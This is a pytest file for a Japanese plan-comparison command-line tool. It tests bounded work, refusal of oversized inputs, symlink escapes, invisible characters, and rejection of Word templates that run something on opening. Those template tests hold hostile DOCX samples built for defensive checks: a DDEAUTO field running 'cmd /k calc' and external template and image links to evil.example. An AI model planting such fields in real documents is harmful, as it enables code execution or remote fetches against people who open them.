"""What an attack found: bounds in work, not in seconds, and refusals in a sentence."""

import os
import sys
from io import BytesIO
from zipfile import ZipFile

import docx as python_docx
import pytest
from builders import head

from atsugi_cli import store
from atsugi_cli.cli import streams
from atsugi_cli.cli.app import main
from atsugi_cli.compare import compare
from atsugi_cli.formats import csv, docx, docx_template, html, json, markdown, pdf, svg, template, text, xlsx
from atsugi_cli.formats.options import MissingError, Options
from atsugi_cli.layout.comparison import comparison
from atsugi_cli.layout.diagram import diagram
from atsugi_cli.layout.joint import joined
from atsugi_cli.levels import DEFAULT_PROFILE
from atsugi_cli.match import lineage, prose
from atsugi_cli.project import fixing
from atsugi_cli.project.reading import schemas
from atsugi_cli.reader import read
from atsugi_cli.rules import check
from atsugi_cli.rules.base import UNNAMED, Subject
from atsugi_cli.store import StoreError, sizes


def word(number, base=0x4E00):
    return "".join(chr(base + number // 900**place % 900) for place in range(3))


def edition(body, name="2020-03", **more):
    result = read(f"{head(name, **more).rstrip()}\n{body}".encode(), f"{name}.yaml", schemas())
    assert result.strategy is not None, result.findings
    return result.strategy


def goals(size, line):
    return "goals:\n" + "".join(f"  - {{id: {line(each)}}}\n" for each in range(size))


def split(size):
    old = "goals:\n  - {id: x, number: 1, title: 推進する}\n"
    return old, goals(size, lambda each: f"b{each}, number: {each + 1}, title: {word(each)}, from: x")


def nameless(size):
    """Parts that no range of numbers says together."""
    old, new = split(size)
    return old, new.replace("number", "x-number")


def merged(size):
    old = goals(size, lambda each: f"a{each}, number: {each + 1}, title: {word(each)}, body: {word(each)}です。")
    names = ", ".join(f"a{each}" for each in range(size))
    return old, f"goals:\n  - {{id: x, number: 1, title: 推進, from: [{names}]}}\n"


def split_indicators(size):
    one = "goals:\n  - id: x\n    number: 1\n    title: 推進する\n    targets:\n      - {id: k, name: 数}\n"
    many = "".join(f"      - {{id: b{each}, name: {word(each)}, from: k}}\n" for each in range(size))
    return one, one.replace("      - {id: k, name: 数}\n", many)


def left_out(size):
    """Families of which nothing is known but how many there are."""

    def family(mark, flags):
        lines = []
        for each in range(size // 10):
            lines += [f"  - id: g{each}", f"    number: {each + 1}", f"    title: {word(each)}", "    policies:"]
            lines += [f"      - {{id: {mark}{each}-{at}, omitted: true{flags(at)}}}" for at in range(10)]
        return "\n".join(["goals:", *lines, ""])

    return family("a", lambda at: f", number: {at + 1}"), family("b", lambda at: f", number: {10 - at}")


def ratchet(size):
    """Texts in which every look of a comparison finds one character."""

    def body(base):
        return "".join(chr(0x4E00 + at % 10) + chr(base + at * 7 % 800) for at in range(size * 4))

    lines = "sections:\n  - {{id: s, title: 章, body: {}}}\n"
    return lines.format(body(0x5000)), lines.format(body(0x6000))


SHAPES = [split, nameless, merged, split_indicators, left_out, ratchet]
REVISING = {"revises": "2020-03"}


def revised(shape, size):
    old, new = shape(size)
    return compare(edition(old), edition(new, "2023-10", **REVISING))


WRITERS = {each.__name__.rpartition(".")[2]: each.write for each in (text, markdown, html, docx, csv, xlsx)}


def stages(shape, size):
    """What is done with a revision, each stage with what it needs made before."""
    old, new = (
        edition(each, name, **more)
        for each, name, more in zip(shape(size), ("2020-03", "2023-10"), ({}, REVISING), strict=True)
    )
    revision = compare(old, new)
    document = comparison(revision, DEFAULT_PROFILE)
    yield "lineage", lambda: lineage.trace(old, new)
    yield "compare", lambda: compare(old, new)
    yield "joint", lambda: joined(revision)
    yield "comparison", lambda: comparison(revision, DEFAULT_PROFILE)
    yield "rules", lambda: check(Subject(new, DEFAULT_PROFILE, base=old))
    yield "json", lambda: json.revision(revision, Options())
    for name, write in WRITERS.items():
        yield name, lambda write=write: write(document, Options())


def lines_of(work):
    """Count calls and lines that Python runs for a piece of work."""
    seen = 0

    def trace(_frame, event, _arg):
        nonlocal seen
        seen += event in ("call", "line")
        return trace

    before = sys.gettrace()
    sys.settrace(trace)
    try:
        work()
    finally:
        sys.settrace(before)
    return seen


@pytest.mark.parametrize("shape", SHAPES)
def test_four_times_as_much_takes_no_more_than_nine_times_the_steps(shape):
    """Linear work takes four times the steps (eight where a page is too long and made twice), squared sixteen."""
    for _, work in stages(shape, 20):
        work()  # imports and caches
    small = {name: lines_of(work) for name, work in stages(shape, 100)}
    large = {name: lines_of(work) for name, work in stages(shape, 400)}
    assert not {name: large[name] / small[name] for name in small if large[name] > 9 * small[name]}


def test_one_comparison_has_so_many_steps_for_each_item():
    """What difflib finds, as long as that is little work; else nothing, after no more than that."""
    common = [str(at % 10) for at in range(500)]
    old, new = ([each for at in common for each in (at, f"{at}{side}")] for side in "ab")
    assert lines_of(lambda: prose._looked(old, new)) < 10 * prose.WORK_PER_ITEM * (len(old) + len(new))
    assert prose._looked(old, new) is None
    assert prose._looked(["a", "b", "c"], ["a", "x", "c"]) == [(1, 2, 1, 2)]


def test_very_many_sentences_or_very_long_ones_are_not_compared_each_with_each():
    assert prose._is_much(["あ" * 5000, "い" * 5000], ["う" * 5000, "え" * 5000])
    assert not prose._is_much(["あ" * 500] * 15, ["い" * 400] * 15)


def fixable(size):
    line = "  - {{id: a{0}, number: '{1}', title: 'ｱｲｳ{2}。。', body: 'か゛ん、、'}}\n"
    return "goals:\n" + "".join(line.format(at, at + 1, word(at)) for at in range(size))


def test_fixing_takes_steps_by_the_number_of_edits(tmp_path):
    def work(size):
        path = tmp_path / "2020-03.yaml"
        path.write_text(f"{head('2020-03').rstrip()}\n{fixable(size)}", encoding="utf-8")
        project = fixing.Project(str(tmp_path))
        blob = store.read_file(str(path))
        return lambda: fixing.fixed(project, blob)

    work(10)()
    assert lines_of(work(200)) < 6 * lines_of(work(50))


def test_a_text_is_read_once_however_often_it_is_asked_for(monkeypatch):
    read = []
    monkeypatch.setattr(fixing, "load", lambda text, name, real=fixing.load: read.append(text) or real(text, name))
    fixing._loaded.cache_clear()
    for _ in range(3):
        assert fixing._keeps_the_rest("a: 1", "a.yaml", [])
    assert read == ["a: 1"]


def test_the_exact_changes_of_a_pair_are_looked_for_once(monkeypatch):
    looked = []
    monkeypatch.setattr(prose, "_looked", lambda old, new, real=prose._looked: looked.append(old) or real(old, new))
    prose._exact.cache_clear()
    for strict in (False, True, True):
        prose.pieces("移住の相談を広げる", "転入の支援を伝える", strict=strict)
    assert sum(len(words) > 1 for words in looked) == 1  # the others are of sentences, of which there is one


def test_of_many_edits_that_would_change_something_else_few_are_looked_for():
    readings = iter(range(5))
    edits = [fixing.Edit(at, at + 1, "{") for at in range(0, 300, 3)]
    wrong = [fixing.Finding(UNNAMED, "", None, edits=(each,)) for each in edits]
    assert fixing._accepted("a: b\n" * 80, "a.yaml", wrong, [], readings) == []
    assert next(readings, None) is None


# ----------------------------------------------------------------------------------------------------------- refusals


@pytest.mark.parametrize("columns", ["1000000000", "99999999999999999999", "9" * 5000])
def test_a_line_has_a_bound_whatever_the_terminal_says(columns, monkeypatch):
    monkeypatch.setenv("COLUMNS", columns)
    assert streams.terminal_width() == streams.MAX_WIDTH


def test_a_picture_that_is_too_large_is_refused_before_it_is_drawn(monkeypatch):
    monkeypatch.setattr(pdf, "_drawn", lambda *_: b"drawn")
    plans = [
        diagram(edition(goals(size, lambda at: f"a{at}, number: {at + 1}, title: {word(at)}")), DEFAULT_PROFILE)
        for size in (20, 500)
    ]
    assert pdf.picture(plans[0], Options()) == b"drawn"
    assert svg.size(svg.write(plans[0], Options()))[0] == svg.WIDTH
    with pytest.raises(MissingError, match="大きすぎる"):
        pdf.picture(plans[1], Options())


def test_a_large_file_is_refused_by_what_it_would_become():
    start = b"format: 1\nplan:\n  id: p\nedition:\n  id: e\ngoals:\n"
    item = "  - {{id: a{0}, number: {0}, title: {1}, body: {1}}}\n"
    plan = start + "".join(item.format(at, word(at) * 5) for at in range(20_000)).encode()
    assert len(plan) > sizes.MAX_BYTES
    assert sizes.plausible(plan, "a.yaml") is plan
    ids = b"".join(b"  - {id: q%d}\n" % at for at in range(300))
    for dense in (
        ids + b"  - [" + b"a," * 1_000_000 + b"a]\n",
        b"".join(b"# id: q%d %s\n" % (at, b"x" * 80) for at in range(30_000)),
    ):
        with pytest.raises(StoreError, match="版らしくありません"):
            sizes.plausible(start + dense, "a.yaml")


@pytest.mark.skipif(os.name == "nt", reason="links need a right there")
def test_no_link_leads_out_of_a_folder(tmp_path):
    (tmp_path / "out/deep").mkdir(parents=True)
    (tmp_path / "out/deep/x.yaml").write_text("a: 1")
    (tmp_path / "s/p").mkdir(parents=True)
    (tmp_path / "s/p/a.yaml").write_text("a: 1")
    (tmp_path / "s/p/out").symlink_to(tmp_path / "out")
    (tmp_path / "s/p/b.yaml").symlink_to(tmp_path / "out/deep/x.yaml")
    (tmp_path / "s-more").symlink_to(tmp_path / "s")
    told = []
    found = store.find_editions([str(tmp_path / "s")], lambda path, error: told.append((path, str(error))))
    assert found.editions == (str(tmp_path / "s/p/a.yaml"),)
    assert sorted(path for path, _ in told) == [str(tmp_path / "s/p/b.yaml"), str(tmp_path / "s/p/out")]
    assert store.find_editions([str(tmp_path / "s-more")]).editions  # a link that is named itself is followed


# ---------------------------------------------------------------------------------------------------------- templates

FIELD = '<w:p><w:fldSimple w:instr="{}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
RUNS = "<w:p>" + "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in ("DDE", "AUTO cmd")) + "</w:p>"
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="http://evil.example/t" TargetMode="External"/></Relationships>'
)


def form(body="", **parts):
    document = python_docx.Document()
    document.add_paragraph("{{新旧対照表}}")
    buffer, made = BytesIO(), BytesIO()
    document.save(buffer)
    with ZipFile(buffer) as source, ZipFile(made, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            target.writestr(
                name, data.replace(b"<w:body>", b"<w:body>" + body.encode()) if "document" in name else data
            )
        for name, data in parts.items():
            target.writestr(name, data)
    return made.getvalue()


@pytest.mark.parametrize(
    "made",
    [
        form(FIELD.format("DDEAUTO cmd /k calc")),
        form(FIELD.format(r"INCLUDEPICTURE http://evil.example/x.png \d")),
        form(RUNS),
        form(**{"word/_rels/settings.xml.rels": RELATIONS.format("attachedTemplate")}),
        form(**{"word/_rels/settings.xml.rels": RELATIONS.format("image")}),
        form(**{"word/vbaProject.bin": b"x"}),
        form(**{"word/activeX/activeX1.bin": b"x"}),
    ],
)
def test_a_template_that_does_something_is_refused(made):
    with pytest.raises(ValueError, match="開くと動くもの"):
        docx_template.Form(made, "comparison")


def test_a_template_is_measured_by_its_elements(monkeypatch):
    docx_template.Form(form(FIELD.format("PAGE")), "comparison")
    monkeypatch.setattr(template, "MOST_ELEMENTS", 5000)
    with pytest.raises(ValueError, match="大きすぎます"):
        docx_template.Form(form("<w:p/>" * 5000), "comparison")


# --------------------------------------------------------------------------------------------------------- characters


def test_a_table_of_all_private_characters_is_read():
    everything = "".join(map(chr, range(0xE000, 0xF900)))
    flow = f"goals: [{{id: g, number: 1, title: 転入, body: '{everything}', x-a: https://example.jp}}]\n"
    assert edition(flow).root.children[0].body == everything


@pytest.mark.parametrize("words", ["\udcff\udcfe", "a\x9bb", "a\u2028b", "a\x85b", "a\nb", "\u202e市"])
@pytest.mark.parametrize("command", [["init", "z", "--city"], ["init", "z", "--title"], ["new", "2027-03", "--label"]])
def test_words_that_no_reader_would_see_are_refused(command, words, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    assert main([*command, words]) == 2
    assert "ファイルに書けない文字があります" in capsys.readouterr().err
    assert not [*tmp_path.iterdir()]
